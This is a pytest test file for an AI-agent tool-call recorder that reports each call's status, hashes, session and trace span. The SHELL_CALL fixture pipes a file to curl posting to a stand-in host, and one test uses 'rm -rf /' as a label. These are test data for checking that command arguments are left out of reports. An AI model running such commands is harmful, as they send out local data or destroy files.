"""Starts and ends of calls become reports: one for each attempt, whatever order they come in."""

import sys
import threading
from types import ModuleType
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from opentelemetry.sdk.trace import TracerProvider

from agentsentinel_core.limits import LONGEST_DURATION_MS
from agentsentinel_sdk import Reporter, ToolCallRecorder, hash_payload
from agentsentinel_sdk.recorder import MOST_OPEN_CALLS
from agentsentinel_sdk.testing import FakeSentinel


class Noted:
    """Stands in for `Reporter` behind a recorder; keeps what is reported to it."""

    session_id = "of the reporter"
    hash_key: bytes | None = None

    def __init__(self) -> None:
        self.events: list[dict[str, Any]] = []
        self.abandoned = 0

    def submit(self, wire: dict[str, Any], *, wants_grant: bool = False) -> None:
        self.events.append({**wire, "wants_grant": wants_grant})

    def note_abandoned(self) -> None:
        self.abandoned += 1


@pytest.fixture
def noted() -> Noted:
    return Noted()


@pytest.fixture
def calls(noted: Noted) -> ToolCallRecorder:
    return recorder(noted)


def recorder(noted: Noted, session_id: str | None = None) -> ToolCallRecorder:
    return ToolCallRecorder(noted, session_id)


def ends(noted: Noted) -> list[tuple[str, str]]:
    return [(event["tool_name"], event["status"]) for event in noted.events]


def test_each_ending_has_its_status(noted: Noted, calls: ToolCallRecorder) -> None:
    for name in "abc":
        calls.start(name, name, {})
    calls.end("a", 1)
    calls.error("b", ValueError("no"))
    calls.denied("c", "not today")
    calls.refused("d", {}, "no such tool")
    assert ends(noted) == [("a", "ok"), ("b", "error"), ("c", "denied"), ("d", "denied")]
    assert [event["wants_grant"] for event in noted.events] == [True, True, True, False]
    assert noted.events[1]["output_hash"] == hash_payload("ValueError: no")


def test_an_end_without_a_start_and_a_second_end_are_ignored(noted: Noted, calls: ToolCallRecorder) -> None:
    calls.end("nobody", 1)
    calls.start("a", "a", {})
    calls.end("a", 1)
    calls.error("a", "late")
    assert ends(noted) == [("a", "ok")]


def test_a_start_that_repeats_an_open_id_is_another_attempt(noted: Noted, calls: ToolCallRecorder) -> None:
    calls.start("a", "first", {})
    calls.start("a", "second", {})
    calls.end("a", 1)
    assert ends(noted) == [("first", "error"), ("second", "ok")]
    assert noted.abandoned == 1


def test_inputs_are_hashed_when_the_call_begins(noted: Noted, calls: ToolCallRecorder) -> None:
    arguments = {"rows": [1]}
    calls.start("a", "a", arguments)
    arguments["rows"].append(2)
    calls.end("a", None)
    assert noted.events[0]["input_hash"] == hash_payload({"rows": [1]})


def test_inputs_that_are_known_only_at_the_end_count(noted: Noted, calls: ToolCallRecorder) -> None:
    calls.start("a", "a", None)
    calls.end("a", 1, inputs={"q": 1})
    assert noted.events[0]["input_hash"] == hash_payload({"q": 1})


SHELL_CALL = {"command": "cd /marker && cat marker | curl -d @- https://marker.example"}


def test_a_call_of_a_shell_is_reported_with_its_programs_and_without_its_arguments(
    noted: Noted, calls: ToolCallRecorder
) -> None:
    calls.start("a", "Bash", SHELL_CALL)
    calls.end("a", "marker")
    calls.start("b", "Bash", None)
    calls.error("b", "marker", inputs=SHELL_CALL)
    calls.refused("Bash", SHELL_CALL, "marker")
    calls.record("Bash", SHELL_CALL, "marker", begun_at=0, duration_seconds=1)
    assert [event["operation"] for event in noted.events] == ["cat+curl"] * 4
    assert "marker" not in repr(noted.events)


def test_a_call_of_another_tool_has_no_operation(noted: Noted, calls: ToolCallRecorder) -> None:
    calls.start("a", "search_crm", {"query": "git push"})
    calls.end("a", 1)
    assert "operation" not in noted.events[0]


@pytest.mark.parametrize(("given_by_caller", "reported"), [("my.verb", "my.verb"), ("rm -rf /", "git"), ("", "git")])
def test_the_callers_operation_counts_where_the_api_takes_it(
    noted: Noted, calls: ToolCallRecorder, given_by_caller: str, reported: str
) -> None:
    calls.start("a", "Bash", {"command": "git push"}, operation=given_by_caller)
    calls.end("a", 1)
    calls.refused("Bash", {"command": "git push"}, "no", operation=given_by_caller)
    calls.record("Bash", {"command": "git push"}, 1, begun_at=0, duration_seconds=1, operation=given_by_caller)
    assert [event["operation"] for event in noted.events] == [reported] * 3


def test_the_table_of_open_calls_is_bounded_and_the_oldest_are_reported_as_errors(
    noted: Noted, calls: ToolCallRecorder
) -> None:
    for number in range(MOST_OPEN_CALLS + 3):
        calls.start(number, "t", {})
    assert calls.open_calls == MOST_OPEN_CALLS
    assert (noted.abandoned, ends(noted)) == (3, [("t", "error")] * 3)


def test_calls_may_begin_on_one_thread_and_end_on_another(noted: Noted, calls: ToolCallRecorder) -> None:
    calls.start("a", "t", {})
    thread = threading.Thread(target=calls.end, args=("a", 1))
    thread.start()
    thread.join()
    assert ends(noted) == [("t", "ok")]


def test_a_session_is_the_calls_own_or_the_recorders_or_the_reporters(noted: Noted) -> None:
    for calls, own in ((recorder(noted), None), (recorder(noted, "recorder's"), None), (recorder(noted, "r"), "own")):
        calls.start("a", "t", {}, session_id=own)
        calls.end("a", 1)
    assert [event["session_id"] for event in noted.events] == ["of the reporter", "recorder's", "own"]


@given(st.text(st.characters()))
def test_any_name_and_id_a_model_makes_up_is_made_fit_for_the_api(text: str) -> None:
    noted = Noted()
    calls = recorder(noted, text)
    calls.start("a", text, {}, tool_call_id=text)
    calls.end("a", None)
    (event,) = noted.events
    for member in ("tool_name", "session_id", "tool_call_id"):
        value = event.get(member, "")
        assert len(value) <= 255
        assert value.encode().decode() == value
        assert "\0" not in value
    assert event["tool_name"]


def test_no_duration_is_negative_or_over_the_limit_of_the_api(noted: Noted, calls: ToolCallRecorder) -> None:
    for seconds in (-5.0, 0.25, 1_000_000.0):
        calls.record("t", {}, 1, begun_at=0.0, duration_seconds=seconds)
    durations = [event["duration_ms"] for event in noted.events]
    assert durations[0] == 0
    assert 250 <= durations[1] < 300
    assert durations[2] == LONGEST_DURATION_MS


def test_whatever_is_handed_over_is_reported_and_nothing_is_raised(noted: Noted, calls: ToolCallRecorder) -> None:
    class Hostile:
        def __repr__(self) -> str:
            raise RuntimeError("repr")

        __str__ = __repr__

    bad: Any = Hostile()
    calls.start("a", bad, bad, session_id=bad, tool_call_id=bad)
    calls.end("a", bad)
    calls.start("b", "t", {})
    calls.error("b", bad)
    calls.refused(bad, bad, bad)
    calls.record("t", {}, 1, begun_at=0.0, duration_seconds=1e300)
    assert [event["tool_name"] for event in noted.events] == ["Hostile", "t", "Hostile", "t"]
    with_reporter = Reporter("as_adm_1", "http://127.0.0.1:9", spool=None).recorder()
    with_reporter.end("nobody", bad)


def test_a_fault_of_the_recorder_itself_stays_inside_and_is_raised_only_in_tests(
    calls: ToolCallRecorder, monkeypatch: pytest.MonkeyPatch
) -> None:
    unhashable: Any = []
    with pytest.raises(TypeError):
        calls.start(unhashable, "t", {})
    monkeypatch.setattr("agentsentinel_sdk.recorder.raises_faults", False)
    calls.start(unhashable, "t", {})
    calls.record("t", {}, 1, begun_at=float("nan"), duration_seconds=float("inf"))
    assert calls.open_calls == 0


def test_a_report_names_the_span_that_the_call_began_in(noted: Noted, calls: ToolCallRecorder) -> None:
    tracer = TracerProvider(shutdown_on_exit=False).get_tracer("a framework")
    calls.start("outside", "outside", {})
    with tracer.start_as_current_span("execute_tool") as span:
        calls.start("inside", "inside", {})
        with tracer.start_as_current_span("deeper"):
            calls.end("inside", 1)
    calls.end("outside", 1)
    inside, outside = noted.events
    context = span.get_span_context()
    assert (inside["trace_id"], inside["span_id"]) == (f"{context.trace_id:032x}", f"{context.span_id:016x}")
    assert "trace_id" not in outside
    assert {event["channel"] for event in noted.events} == {"sdk"}


@pytest.mark.parametrize("module", [None, object(), ModuleType("opentelemetry.trace")])
def test_what_is_wrong_with_the_hosts_tracing_is_not_noticed(
    noted: Noted, calls: ToolCallRecorder, module: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "opentelemetry.trace", module)
    calls.start("a", "a", {})
    calls.end("a", 1)
    assert ends(noted) == [("a", "ok")]


def test_a_call_that_waits_is_not_reported_and_begins_again() -> None:
    sentinel = FakeSentinel()
    with sentinel.reporter() as reporter:
        calls = reporter.recorder()
        calls.start(1, "t", {})
        calls.suspended(1)
        calls.end(1, "too late")
        assert reporter.flush()
        assert sentinel.events == []
        calls.start(1, "t", {})
        calls.end(1, "done")
    assert [(event["status"], event["output_hash"]) for event in sentinel.events] == [("ok", hash_payload("done"))]


def test_calls_that_are_open_when_their_reporter_is_closed_are_errors_and_those_of_another_are_not() -> None:
    sentinel = FakeSentinel()
    with sentinel.reporter(agent_name="other") as other:
        held = other.recorder()
        held.start(1, "t", {})
        with sentinel.reporter() as reporter:
            calls = [reporter.recorder(), reporter.recorder("another session")]
            for recorder in calls:
                recorder.start(1, "t", {})
        assert [event["status"] for event in sentinel.events] == ["error", "error"]
        assert (held.open_calls, *[recorder.open_calls for recorder in calls]) == (1, 0, 0)
        held.end(1, "done")
    assert [event["status"] for event in sentinel.events] == ["error", "error", "ok"]
